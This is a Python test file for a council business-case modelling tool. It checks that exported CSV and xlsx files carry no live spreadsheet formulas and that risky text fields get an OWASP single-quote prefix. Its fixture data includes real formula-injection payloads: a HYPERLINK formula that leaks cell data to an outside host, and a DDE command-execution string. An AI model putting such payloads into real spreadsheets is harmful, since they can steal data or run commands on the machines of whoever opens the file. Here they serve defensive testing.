"""Exports hold data, never formulas (issue 17 item 1).

The default case is copied with every name a reader sees (councils, services,
options, the case's title, actuals labels and councils, risk titles, staff
posts) replaced by a formula a spreadsheet would run.  Every file the program
writes from it (the run folder's CSV and xlsx, ``uncertainty/``, the NPV
bridge's xlsx and the severance command's CSV) is then read back: each xlsx
text cell is a string cell and no sheet holds a formula; each CSV text field
that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return carries the
single quote OWASP recommends, while numbers, negative ones included, stay
numbers.
"""

from __future__ import annotations

import csv
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from click.testing import CliRunner

from models.cli import main
from models.core.cells import FORMULA_TRIGGERS, csv_safe_frame, csv_safe_text
from tests.conftest import DEFAULT_CASE, SCENARIOS

INJECTIONS = (
    '=HYPERLINK("http://x/?leak="&B2,"Bromsgrove")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "=1+2 $x^$",  # matplotlib mathtext too: drawn literally, never parsed
)
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def _payload(i: int, what: str) -> str:
    """A distinct injection string (names must differ) for the i-th thing."""
    return f"{INJECTIONS[i % len(INJECTIONS)]} {what} {i}"


def _poison_actuals(node: object, counter: list[int]) -> None:
    """Replace every label and council name of an actuals file, in place."""
    if isinstance(node, dict):
        for key in ("label", "subtotal_label", "comment", "name"):
            if isinstance(node.get(key), str):
                counter[0] += 1
                node[key] = _payload(counter[0], key)
        for value in node.values():
            _poison_actuals(value, counter)
    elif isinstance(node, list):
        for value in node:
            _poison_actuals(value, counter)


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory) -> Path:
    """The default case with every name an injection string, in a copy of
    ``scenarios/``."""
    folder = tmp_path_factory.mktemp("poisoned") / "scenarios"
    shutil.copytree(SCENARIOS, folder)
    case = yaml.safe_load(DEFAULT_CASE.read_text(encoding="utf-8"))
    case["title"] = _payload(0, "case")
    for i, council in enumerate(case["councils"].values()):
        council["name"] = _payload(i, "council")
    for i, service in enumerate(case["services"].values()):
        service["name"] = _payload(i + 2, "service")
    for i, option in enumerate(case["options"].values()):
        option["title"] = _payload(i + 3, "option")
    path = folder / DEFAULT_CASE.name
    path.write_text(yaml.safe_dump(case, sort_keys=False), encoding="utf-8")
    for name in case["actuals"]:
        actuals = yaml.safe_load((folder / name).read_text(encoding="utf-8"))
        _poison_actuals(actuals, [0])
        actuals["title"] = _payload(1, "actuals")
        (folder / name).write_text(yaml.safe_dump(actuals), encoding="utf-8")
    register_path = folder / case["risk_register"]
    register = yaml.safe_load(register_path.read_text(encoding="utf-8"))
    register["title"] = _payload(4, "register")
    for i, risk in enumerate(register.get("risks", [])):
        risk["risk"] = _payload(i, "risk")
    register_path.write_text(yaml.safe_dump(register), encoding="utf-8")
    staff = folder / case["staff_at_risk"]
    with staff.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for i, row in enumerate(rows):
        row["post"] = _payload(i, "post")
    with staff.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def written(poisoned, tmp_path_factory) -> list[Path]:
    """Every CSV and xlsx the program writes from the poisoned case."""
    out = tmp_path_factory.mktemp("poisoned-out")
    runner = CliRunner()
    run = runner.invoke(main, ["run", str(poisoned), "--jobs", "2", "--out", str(out)])
    assert run.exit_code == 0, run.output
    bridge = runner.invoke(
        main,
        [
            "diff",
            str(poisoned),
            "--from",
            "status_quo",
            "--to",
            "single_business_case",
            "--out",
            str(out / "bridge"),
        ],
    )
    assert bridge.exit_code == 0, bridge.output
    costed = out / "costed.csv"
    severance = runner.invoke(
        main,
        [
            "severance",
            str(poisoned.parent / "staff_at_risk_2011.csv"),
            "--policy",
            str(poisoned),
            "--out",
            str(costed),
        ],
    )
    assert severance.exit_code == 0, severance.output
    files = sorted(p for p in out.rglob("*") if p.suffix in (".csv", ".xlsx"))
    return [p for p in files if "inputs" not in p.relative_to(out).parts]


def test_every_export_of_the_run_the_bridge_and_severance_is_checked(written):
    names = {p.name for p in written}
    assert {
        "results.csv",
        "council_tables.csv",
        "sensitivity.csv",
        "switching_values.csv",
        "monte_carlo_summary.csv",
        "tornado_single_business_case.csv",
        "costed.csv",
        "comparison.xlsx",
        "single_business_case.xlsx",
        "monitoring.xlsx",
        "bridge.xlsx",
    } <= names


def test_no_xlsx_holds_a_formula_and_every_text_cell_is_a_string(written):
    books = [p for p in written if p.suffix == ".xlsx"]
    payloads_seen = 0
    for path in books:
        with zipfile.ZipFile(path) as z:
            for member in z.namelist():
                if member.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(member), (path.name, member)
        for ws in openpyxl.load_workbook(path):
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        assert cell.data_type == "s", (path.name, cell.coordinate)
                        payloads_seen += cell.value.startswith(FORMULA_TRIGGERS)
    assert payloads_seen > 20  # the names did reach the sheets, as text


def test_every_csv_text_field_that_could_run_is_quoted_and_numbers_stay(written):
    quoted = negatives = 0
    for path in (p for p in written if p.suffix == ".csv"):
        with path.open(newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for field in row:
                    if NUMBER.fullmatch(field):
                        negatives += field.startswith("-")
                        continue
                    assert not field.startswith(FORMULA_TRIGGERS), (path.name, field)
                    quoted += field.startswith("'") and field[1:].startswith(
                        FORMULA_TRIGGERS
                    )
    assert quoted > 20  # names reached the CSV files, neutralised
    assert negatives > 20  # costs and negative NPVs are still plain numbers


def test_the_quote_is_put_before_text_only():
    # OWASP: prefix a single quote to a field beginning with = + - @ tab or CR
    assert csv_safe_text("=1+2") == "'=1+2"
    assert csv_safe_text("\t=1") == "'\t=1"
    assert csv_safe_text("\r=1") == "'\r=1"
    assert csv_safe_text("Bromsgrove") == "Bromsgrove"
    assert csv_safe_text(-12.5) == -12.5
    frame = csv_safe_frame(pd.DataFrame({"name": ["-x", "y"], "value": [-1.0, 2.0]}))
    assert frame["name"].tolist() == ["'-x", "y"]
    assert frame["value"].tolist() == [-1.0, 2.0]


def test_every_kind_of_text_column_is_neutralised():
    # each column is looked at by its distinct values: a trigger anywhere in
    # it, among repeats, in a categorical, beside numbers or unhashable cells,
    # is still quoted, and a column without one is left as it is
    many = ["Bromsgrove"] * 500 + ["@SUM(A1)"] + ["Redditch"] * 500
    frame = pd.DataFrame(
        {
            "repeated": many,
            "categorical": pd.Categorical(["b", "=1", "b"] * 334)[:1001],
            "mixed": ([1, True, "+2"] * 334)[:1001],
            "lists": [[1]] * 1000 + ["-x"],
            "clean": ["a", "b"] * 500 + ["c"],
        }
    )
    safe = csv_safe_frame(frame)
    assert safe["repeated"].tolist()[500] == "'@SUM(A1)"
    assert safe["repeated"].tolist().count("Bromsgrove") == 500
    assert safe["categorical"].tolist()[:3] == ["b", "'=1", "b"]
    assert safe["mixed"].tolist()[:3] == [1, True, "'+2"]
    assert type(safe["mixed"].tolist()[1]) is bool  # True stays True, not 1
    assert safe["lists"].tolist()[-1] == "'-x" and safe["lists"].tolist()[0] == [1]
    assert safe["clean"].tolist() == frame["clean"].tolist()
